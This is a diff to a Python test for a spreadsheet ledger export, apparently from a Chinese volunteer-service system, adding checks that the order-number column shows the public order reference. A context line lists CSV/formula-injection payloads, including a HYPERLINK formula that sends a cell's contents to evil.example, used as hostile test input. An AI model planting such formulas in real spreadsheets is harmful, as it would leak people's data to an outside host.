@@ -62,6 +62,12 @@ def test_xlsx_export_cell_by_cell(services: Any, filled: dict[str, Any], tmp_pat
     assert second[11] == 3 and second[13] == "工作人员确认"
     assert third[1] == "王建国" and third[4] == "水电维修" and third[5] == "2026-11-23" and third[8] == 2
     assert third[12] == "修得很好"
+    # 订单号 is the 单号 people see in chat and the console (random, 7 digits), not the table's internal id
+    with services.sessions() as s:
+        refs = dict(s.execute(select(Order.id, Order.ref)).all())
+    assert [r.order_ref for r in rows] == [refs[r.order_id] for r in rows]
+    assert [v[14] for v in values[1:]] == [refs[r.order_id] for r in rows]
+    assert all(v[14] != r.order_id for v, r in zip(values[1:], rows, strict=True))
     summary = [[c.value for c in row] for row in book["汇总"].iter_rows()]
     assert summary[0] == list(ledger.SUMMARY_COLUMNS)
     assert summary[1] == ["李秀英", "110***********1234", 1, 4, 3]
@@ -194,7 +200,7 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?d="&D2,"详情")', "+1+1", "-2+3",
 def _hostile_rows() -> list[ledger.LedgerRow]:
     return [ledger.LedgerRow(record_id=i, name=bad, id_masked="110***********1234", service=bad, day=date(2026, 11, 3),
                              start="09:00", end="10:30", hours=1.5, content=bad, resident=bad, rating=5, comment=bad,
-                             verified="居民确认", order_id=100 + i, volunteer_id=i)
+                             verified="居民确认", order_id=100 + i, volunteer_id=i, order_ref=4000000 + i)
             for i, bad in enumerate(FORMULAS, 1)]
 
 
